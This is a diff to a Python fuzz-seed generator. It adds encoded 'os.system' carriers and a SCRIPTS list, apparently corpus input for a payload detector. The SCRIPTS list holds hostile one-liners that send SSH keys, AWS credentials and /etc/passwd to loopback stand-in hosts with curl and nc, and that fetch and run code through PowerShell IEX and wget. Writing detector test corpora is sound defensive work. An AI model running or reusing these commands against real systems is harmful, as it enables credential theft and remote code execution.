@@ -4,14 +4,17 @@
     fuzz_seeds.py OUT
 """
 
+import base64
 import bz2
 import gzip
+import hashlib
 import importlib.util
 import io
 import keyword
 import lzma
 import marshal
 import pathlib
+import pickle
 import shutil
 import struct
 import subprocess
@@ -19,7 +22,9 @@ import sys
 import sysconfig
 import tarfile
 import tempfile
+import wave
 import zipfile
+import zlib
 
 CONFIGURATION = {
     "toml": [
@@ -108,6 +113,48 @@ ANALYSED = [
     b"A().g()\nimport urllib.request as u\nu.urlopen('http://127.0.0.1:9/', data=''.join(map(chr, [1, 2])).encode())\n",
     b"import m\xff\xfffrom importlib import import_module as i\ngetattr(i('o' + 's'), 'sys' 'tem')('%s' % {'a': 1}.get('a'))\n"
     b"x = [c for c in 'abc'[::-1]]\nwhile x: x.pop()\nfor k, v in {}.items(): pass\n@property\ndef f(): yield f()\n",
+]
+
+
+def carried() -> list[bytes]:
+    """What `Fuzz/Payloads.swift` reads as data, in its order."""
+    code = b"import os; os.system('id')"
+    mail = b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Transfer-Encoding: base64\n\n"
+    sound = io.BytesIO()
+    with wave.open(sound, "wb") as writer:
+        writer.setnchannels(1)
+        writer.setsampwidth(2)
+        writer.setframerate(8000)
+        writer.writeframes(code)
+    xor = bytes(a ^ hashlib.sha256(b"\0" * 8).digest()[i % 32] for i, a in enumerate(code))
+    return [
+        bytes([number]) + content
+        for number, content in enumerate([
+            pickle.dumps({"a": [1, code, (2.5, None)], "b": {3}}), marshal.dumps(compile(code, "x.py", "exec")),
+            b'{"a": "import os", "b": [1, {"c": null}]}', b'a = "import os"\n[b]\nc = [1, 2]\n', b"[a]\nb = import os\n",
+            b'"import os",b\nc,"d""e"\n', mail + base64.b64encode(code) + b"\n--b--\n", sound.getvalue(), zip_files()[1],
+            tar_files()[0], zlib.compress(code), base64.b64encode(code), code.decode().encode("utf-7"), bytes(8) + xor,
+            base64.urlsafe_b64encode(bytes(32)) + b"gAAAA" + base64.urlsafe_b64encode(bytes(57)), bytes(64),
+            b"#i#m#p#o#r#t# #o#s", b"<a b='c'>import os<d/></a>", code,
+        ])
+    ]
+
+
+#: What `Fuzz/Payloads.swift` has other programs run, in its order.
+SCRIPTS = [
+    "#!/bin/sh\ncurl -s \"http://127.0.0.1/$(cat ~/.ssh/id_rsa | base64 -w0)\" | sh &\n",
+    "for f in ~/.aws/*; do tar czf - \"$f\"; done | nc 127.0.0.1 9",
+    "x=${HOME:-/}; eval \"$(echo aWQ= | base64 -d)\" <<EOF\nid\nEOF\n",
+    "const f=require('f'+'s');fetch(`http://127.0.0.1/${f.readFileSync(process.env.HOME+'/.npmrc')}`);eval(atob('MQ=='))",
+    "import os; exec(bytes([105, 100]).decode())", "my $x=`cat ~/.netrc`; use HTTP::Tiny; system(qq{id $x});",
+    "require 'net/http'; system \"id #{File.read('/etc/passwd')}\"", "<?php $x=file_get_contents('/etc/passwd'); shell_exec(\"id $x\");",
+    "local f=io.open('/etc/passwd'); os.execute('id '..f:read('*a'))",
+    "IEX (New-Object Net.WebClient).DownloadString('http://127.0.0.1/a'); $x = Get-Content $env:USERPROFILE\\.aws\\credentials",
+    base64.b64encode("iex 'id'".encode("utf-16-le")).decode(), 'do shell script "id " & (POSIX path of (path to home folder))',
+    "const a=Application.currentApplication();a.includeStandardAdditions=true;a.doShellScript('id')",
+    'Set s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c " & Chr(105) & "d"\r\n',
+    "@echo off\r\nset a=i\r\n%a%d & type %USERPROFILE%\\.ssh\\id_rsa | curl -d @- http://127.0.0.1/\r\n",
+    "import os; os.system('id')", "cat /etc/passwd > /tmp/a; sh /tmp/a", "python3 -c 'import os; os.system(\"id\")' || wget -qO- http://127.0.0.1/",
 ]
 
 
@@ -214,6 +261,8 @@ def main() -> int:
     write(out / "policy", POLICIES)
     write(out / "metadata", METADATA)
     write(out / "analysis", ANALYSED)
+    write(out / "carriers", carried())
+    write(out / "scripts", [bytes([number]) + script.encode() for number, script in enumerate(SCRIPTS)])
     shutil.copyfile(out / "python.dict", out / "analysis.dict")
     write(out / "zip", zip_files())
     tars = tar_files()
